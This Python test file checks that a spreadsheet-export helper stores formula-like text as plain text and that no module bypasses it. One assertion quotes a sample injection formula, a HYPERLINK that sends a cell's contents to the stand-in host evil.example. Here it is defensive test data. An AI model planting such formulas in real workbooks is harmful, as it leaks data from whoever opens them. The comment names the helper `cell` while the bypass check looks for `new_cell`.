import ast
import datetime
import io
import os
from decimal import Decimal
from pathlib import Path

import openpyxl
from openpyxl import Workbook

from pilot_portal.tests.workbooks import FORMULA_LIKE_TEXTS, formulas_in, text_cells
from pilot_portal.xlsx_cells import FORMULA_LEADS, cell, put

ROOT = Path(__file__).resolve().parents[2]
# A carriage return reads back as a line break (tested on its own below); "#N/A" is text that openpyxl
# would otherwise write as an error cell.
DANGEROUS = [text for text in FORMULA_LIKE_TEXTS if not text.startswith("\r")] + ["#N/A"]


def _saved(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def test_text_that_begins_like_a_formula_is_written_as_text():
    raw, safe = Workbook(write_only=True), Workbook(write_only=True)
    raw.create_sheet("raw").append(DANGEROUS)  # what openpyxl does on its own
    sheet = safe.create_sheet("safe")
    sheet.append([cell(sheet, text) for text in DANGEROUS])
    assert formulas_in(_saved(raw)) == [
        'xl/worksheets/sheet1.xml: HYPERLINK("http://evil.example/?leak="&B2,"click me")'
    ]
    written = _saved(safe)  # a write-only workbook can be saved once
    assert formulas_in(written) == []
    assert text_cells(written) == {text: ["s"] for text in DANGEROUS}


def test_every_formula_lead_is_covered():
    assert {text[0] for text in DANGEROUS} | {"\r"} >= set(FORMULA_LEADS)


def test_a_carriage_return_is_written_as_the_line_break_readers_get_back():
    workbook = Workbook()
    put(workbook.active["A1"], "\r=1")
    put(workbook.active["A2"], "first\r\nsecond")
    assert text_cells(_saved(workbook)) == {"\n=1": ["s"], "first\nsecond": ["s"]}


def test_characters_xml_cannot_hold_are_dropped_instead_of_failing_the_file():
    workbook = Workbook()
    put(workbook.active["A1"], "Word\x0bline\x01")
    assert text_cells(_saved(workbook)) == {"Wordline": ["s"]}


def test_numbers_and_dates_keep_their_types_in_an_ordinary_sheet():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([cell(sheet, v) for v in (12, Decimal("2.5"), 1.5, datetime.date(2026, 3, 2), None, True)])
    read = openpyxl.load_workbook(io.BytesIO(_saved(workbook))).active
    assert [c.value for c in read[1]] == [12, 2.5, 1.5, datetime.datetime(2026, 3, 2), None, True]
    assert [c.data_type for c in read[1]] == ["n", "n", "n", "d", "n", "b"]


def test_a_number_format_is_kept():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([cell(sheet, 1234.5, number_format="#,##0")])
    assert openpyxl.load_workbook(io.BytesIO(_saved(workbook))).active["A1"].number_format == "#,##0"


# --- no writer goes around the helper ---------------------------------------------------------


def _bypasses(source: str) -> list[str]:
    """The lines of a module that put a value into a cell other than through pilot_portal.xlsx_cells."""
    tree = ast.parse(source)
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and (node.module or "").startswith("openpyxl.cell"):
            found.append(f"{node.lineno}: imports cells from {node.module}")
        elif isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
            if node.func.attr == "cell" and (len(node.args) > 2 or any(k.arg == "value" for k in node.keywords)):
                found.append(f"{node.lineno}: .cell(..., value=...)")
            if node.func.attr == "append" and node.args:
                # A row of values: every item must be made by the helper's `cell`.
                items = node.args[0]
                if isinstance(items, ast.List | ast.Tuple):
                    elements = items.elts
                elif isinstance(items, ast.ListComp | ast.GeneratorExp):
                    elements = [items.elt]
                else:
                    continue
                for element in elements:
                    if not (isinstance(element, ast.Call) and getattr(element.func, "id", "") == "new_cell"):
                        found.append(f"{node.lineno}: .append() of a row not made by new_cell")
                        break
        elif isinstance(node, ast.Assign | ast.AugAssign):
            targets = node.targets if isinstance(node, ast.Assign) else [node.target]
            if any(isinstance(t, ast.Attribute) and t.attr == "value" for t in targets):
                found.append(f"{node.lineno}: assigns .value")
    return found


BASELINE = ROOT / "scripts" / "bench_exports.py"


def _writers() -> list[Path]:
    """The portal's modules that use openpyxl, except the helper itself and the tests."""
    modules = []
    for folder, subfolders, files in os.walk(ROOT):
        # Not into .venv, .git and the like, nor into tests and migrations.
        subfolders[:] = [d for d in subfolders if not d.startswith(".") and d not in ("tests", "migrations")]
        for name in files:
            path = Path(folder) / name
            # The exports' benchmark writes openpyxl's own cells on purpose: the baseline the exports are timed against.
            if path == BASELINE:
                continue
            if name.endswith(".py") and name != "xlsx_cells.py" and "openpyxl" in path.read_text(encoding="utf-8"):
                modules.append(path)
    return modules


def test_the_check_finds_a_writer_that_goes_around_the_helper():
    source = (
        "from openpyxl.cell import WriteOnlyCell\n"
        "sheet.append([WriteOnlyCell(sheet, value=text)])\n"
        "sheet.cell(row=1, column=1, value=text)\n"
        "sheet['A1'].value = text\n"
        "sheet.append([text, 1])\n"
    )
    assert len(_bypasses(source)) == 5


def test_no_writer_goes_around_the_helper():
    writers = {str(p.relative_to(ROOT)) for p in _writers()}
    assert {"reports/xlsx.py", "pilot_portal/xlsx_table.py", "pilots/importer/template.py"} <= writers
    assert {name: _bypasses((ROOT / name).read_text(encoding="utf-8")) for name in sorted(writers)} == {
        name: [] for name in sorted(writers)
    }
